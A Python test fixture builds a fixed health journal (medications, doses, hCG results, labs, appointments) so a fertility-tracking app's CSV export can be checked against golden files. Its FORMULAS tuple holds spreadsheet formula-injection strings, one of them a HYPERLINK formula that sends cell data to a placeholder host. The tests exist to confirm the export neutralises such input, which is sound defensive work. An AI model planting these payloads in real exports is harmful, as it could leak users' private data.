"""A small fixed journal for the CSV export tests: every kind of record, awkward text, a fixed clock.

Built through the Journal API the way the app writes, each record entered at a plausible moment before NOW
(so `Entered at` columns and "not logged" dose states are stable). The golden files are its export at NOW.
"""

from __future__ import annotations

from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

from rpltrack.domain.appointments import Appointment, AppointmentKind, Question
from rpltrack.domain.betas import BetaDraw, parse_hcg
from rpltrack.domain.cycles import Cycle, CycleEvent, CycleKind, EventKind, Transfer
from rpltrack.domain.labcatalog import parse_lab_value, parse_range, resolve
from rpltrack.domain.labs import LabResult
from rpltrack.domain.models import DoseStatus, Medication, Regimen, Timing, TimingKind
from rpltrack.domain.pregnancies import Confirmation, Outcome, Pregnancy
from rpltrack.domain.quantities import Quantity
from rpltrack.domain.schedule import expand
from rpltrack.domain.sessions import Course, Every, EveryUnit, SessionKind, TreatmentSession
from rpltrack.flags.model import Flag, MarkState
from rpltrack.flags.rules import board
from rpltrack.store.journal import Journal

LONDON = ZoneInfo("Europe/London")
NOW = datetime(2026, 11, 23, 8, 40, tzinfo=LONDON)

# RELIABILITY D1's cases, each of which must reach a spreadsheet as text.
FORMULAS = (
    '=HYPERLINK("http://x/?d="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
)


def at(day: str, hhmm: str) -> datetime:
    return datetime.combine(date.fromisoformat(day), time.fromisoformat(hhmm), tzinfo=LONDON)


def _daily(start: str, amount: str, unit: str, *times: str) -> Regimen:
    timing = Timing(TimingKind.TIMES, times=tuple(time.fromisoformat(t) for t in times))
    return Regimen(date.fromisoformat(start), Quantity(Decimal(amount), unit), timing)


def medications() -> list[Medication]:
    """Aspirin (daily), Lovenox (a dose change; an anticoagulant), levothyroxine (stopped, with a supply),
    paracetamol (as needed, her own)."""
    prn = Timing(TimingKind.PRN)
    return [
        Medication(
            name="aspirin",
            generic="aspirin",
            route="oral",
            zone=LONDON.key,
            regimens=(_daily("2026-11-15", "81", "mg", "08:00"),),
            notes=FORMULAS[1],
            created_at=at("2026-11-14", "21:00"),
        ),
        Medication(
            name="Lovenox",
            generic="enoxaparin",
            route="subcutaneous",
            zone=LONDON.key,
            regimens=(
                _daily("2026-11-15", "40", "mg", "20:00"),
                _daily("2026-11-19", "60", "mg", "20:00"),
            ),
            end_on=date(2027, 6, 30),
            notes='the clinic said "until 36 weeks", then review',
            created_at=at("2026-11-16", "12:00"),  # the evening before was past: "not logged"
        ),
        Medication(
            name="levothyroxine",
            generic="levothyroxine",
            route="oral",
            zone=LONDON.key,
            regimens=(_daily("2026-11-14", "50", "mcg", "07:00"),),
            stopped_at=at("2026-11-20", "10:00"),
            supply=30,
            supply_at=at("2026-11-14", "07:30"),
            notes="on an empty stomach, µ β",
            created_at=at("2026-11-13", "20:00"),
        ),
        Medication(
            name="paracetamol",
            generic=None,
            route="oral",
            zone=LONDON.key,
            regimens=(Regimen(date(2026, 11, 1), Quantity(Decimal(500), "mg"), prn),),
            notes=FORMULAS[3],
            created_at=at("2026-11-01", "09:00"),
        ),
    ]


def _doses(journal: Journal, meds: dict[str, Medication]) -> None:
    """A week of aspirin and Lovenox (one skipped, one left open: missed, one before she entered it: not
    logged, today's aspirin still due), a late entry, an as-needed dose; levothyroxine never logged."""
    aspirin, lovenox, paracetamol = meds["aspirin"], meds["Lovenox"], meds["paracetamol"]
    for med in (aspirin, lovenox):
        for slot in expand(med, at("2026-11-15", "00:00"), NOW):
            local = slot.slot_at.astimezone(LONDON)
            if local.date() in (date(2026, 11, 15), date(2026, 11, 21)) and med is lovenox:
                continue  # never logged: not logged (before it was entered), then missed
            if local.date() == date(2026, 11, 23):
                continue  # due: its window is still open at NOW
            if med is lovenox and local.date() == date(2026, 11, 18):
                journal.record_dose(
                    med,
                    DoseStatus.SKIPPED,
                    slot.slot_at + timedelta(minutes=30),
                    LONDON,
                    slot_at=slot.slot_at,
                    reason=FORMULAS[2],
                )
                continue
            late = med is aspirin and local.date() == date(2026, 11, 17)
            taken = slot.slot_at + timedelta(minutes=12)
            journal.record_dose(
                med,
                DoseStatus.TAKEN,
                taken + (timedelta(hours=10) if late else timedelta(minutes=1)),
                LONDON,
                at=taken,
                slot_at=slot.slot_at,
                site="left abdomen" if med is lovenox else None,
                note=FORMULAS[4] if late else "",
            )
    journal.record_dose(
        paracetamol,
        DoseStatus.TAKEN,
        at("2026-11-20", "14:05"),
        LONDON,
        at=at("2026-11-20", "14:00"),
        note=FORMULAS[5],
    )


def build_small_journal(path: Path) -> Journal:
    """The fixed journal of the golden files, as it stands at NOW."""
    journal = Journal.open(path, now=at("2025-01-01", "09:00"))
    journal.set_setting("tsh.target", "2.0", at("2026-09-16", "10:00"))
    for loss in (
        Pregnancy(
            started_on=None,
            outcome=Outcome.MISCARRIAGE,
            ended_on=date(2025, 3, 2),
            ga_at_end_days=59,
            confirmed=Confirmation.ULTRASOUND,
            notes="line one\nline two, with a comma",
        ),
        Pregnancy(started_on=None, outcome=Outcome.BIOCHEMICAL, ended_on=date(2025, 9, 15), approximate=True),
    ):
        journal.add_pregnancy(loss, at("2025-10-01", "20:00"))
    cycle = journal.add_cycle(
        Cycle(CycleKind.FET, date(2026, 10, 10), clinic='Riverside, "North" site', notes=FORMULAS[0]),
        at("2026-10-10", "18:00"),
    )
    assert cycle.id is not None
    journal.add_event(cycle.id, CycleEvent(EventKind.ULTRASOUND, date(2026, 10, 20), "lining 9 mm"), NOW)
    journal.add_transfer(cycle.id, Transfer(date(2026, 10, 29), 5, 1, "4AA", "euploid"), NOW)
    journal.add_event(cycle.id, CycleEvent(EventKind.POSITIVE_BETA, date(2026, 11, 8)), NOW)
    journal.add_pregnancy(
        Pregnancy(started_on=date(2026, 11, 8), how_found=Confirmation.HCG, cycle_id=cycle.id), NOW
    )
    for when, value, lab in (
        (at("2026-11-07", "08:00"), "45", "Lab A"),
        (at("2026-11-09", "08:30"), "110", "Lab A"),
        (at("2026-11-11", "09:00"), "260", "Lab B, β unit"),
        (at("2026-11-13", "08:15"), ">1000", "Lab B, β unit"),
    ):
        journal.add_beta(BetaDraw(when, parse_hcg(value), lab), when + timedelta(hours=6))
    saved = {m.name: journal.add_medication(m, m.created_at or NOW) for m in medications()}
    levo = saved["levothyroxine"]
    assert levo.id is not None
    _doses(journal, saved)
    for test, value, unit, day, rng, note, anticoagulant in (
        ("TSH", "2.8", None, "2026-11-18", "0.4-4.0", FORMULAS[6], False),
        ("TPO-Ab", "61", None, "2026-09-15", "<34", "", False),
        ("LA", "positive", None, "2026-09-15", "", FORMULAS[7], True),
        ("progesterone", "14.6", None, "2026-10-29", "", "", False),
        ('My own test, "odd"', "<0.01", "µg/L", "2026-10-01", "", "µ β ✓ שלום", False),
    ):
        kind = resolve(test)
        result = LabResult(
            test=kind.key,
            on=date.fromisoformat(day),
            value=parse_lab_value(kind, value, unit),
            reference=parse_range(rng) if rng else None,
            on_anticoagulant=anticoagulant,
            note=note,
            lab="Lab A",
        )
        journal.add_lab(result, at(day, "18:00"))
    # Treatment sessions (sessions.csv): one of each kind's spelling, awkward text, and a planned course.
    journal.add_session(
        TreatmentSession(date(2026, 10, 2), SessionKind.IVIG, where='Infusion unit, "B"', note=FORMULAS[2]),
        at("2026-10-02", "19:00"),
    )
    journal.add_session(
        TreatmentSession(
            date(2026, 11, 3), SessionKind.OTHER, "acupuncture ✓", time(17, 30), LONDON.key, note="line\nbr"
        ),
        at("2026-11-03", "19:00"),
    )
    journal.add_course(
        Course(
            SessionKind.INTRALIPID,
            date(2026, 11, 2),
            Every(3, EveryUnit.WEEKS),
            count=3,
            at_time=time(9, 30),
            zone=LONDON.key,
            where="Riverside day unit",
            note=FORMULAS[3],
        ),
        at("2026-10-30", "12:00"),
    )
    intralipid = TreatmentSession(date(2026, 11, 4), SessionKind.INTRALIPID)
    journal.add_session(intralipid, at("2026-11-04", "12:00"))
    past = journal.add_appointment(
        Appointment(
            at=at("2026-11-02", "09:00"),
            kind=AppointmentKind.RE,
            with_name="Dr Okafor",
            where="Riverside, room 4",
            purpose="transfer follow-up",
            questions=(Question("When is the first beta?"),),
        ),
        at("2026-10-30", "12:00"),
    )
    assert past.id is not None
    journal.appointment_done(past.id, at("2026-11-02", "10:00"), decided=FORMULAS[0])
    cancelled = journal.add_appointment(
        Appointment(at=at("2026-11-24", "15:00"), kind=AppointmentKind.LAB, purpose="bloods"), NOW
    )
    assert cancelled.id is not None
    journal.edit_appointment(cancelled.id, NOW, cancelled=True)
    flags = board(journal.snapshot(NOW, LONDON), journal.flag_marks()).active
    out_of_range = next(f for f in flags if f.rule == "lab-out-of-range")
    journal.mark_flag(out_of_range, MarkState.ACKNOWLEDGED, NOW - timedelta(hours=1), note=FORMULAS[1])
    gone = Flag(
        rule="beta-slow-rise",
        subject="beta1-beta2",
        title="An old flag, no longer showing",
        detail="",
        ask="",
        numbers={},
        sources=("S15",),
        since=date(2026, 11, 9),
    )
    journal.mark_flag(
        gone, MarkState.RAISED, at("2026-11-10", "12:00"), note="raised", appointment_id=past.id
    )
    journal.add_appointment(
        Appointment(
            at=at("2026-11-26", "10:30"),
            kind=AppointmentKind.HEMATOLOGY,
            with_name="Dr Lee",
            where="Riverside, 2nd floor",
            purpose="Lovenox plan",
            notes=FORMULAS[2],
            questions=(
                Question("Should I keep taking aspirin?"),
                *(
                    Question(f"{f.title}: {f.ask}", flag_key=f.key)
                    for f in flags
                    if f.rule != out_of_range.rule
                ),
            ),
        ),
        NOW,
    )
    return journal
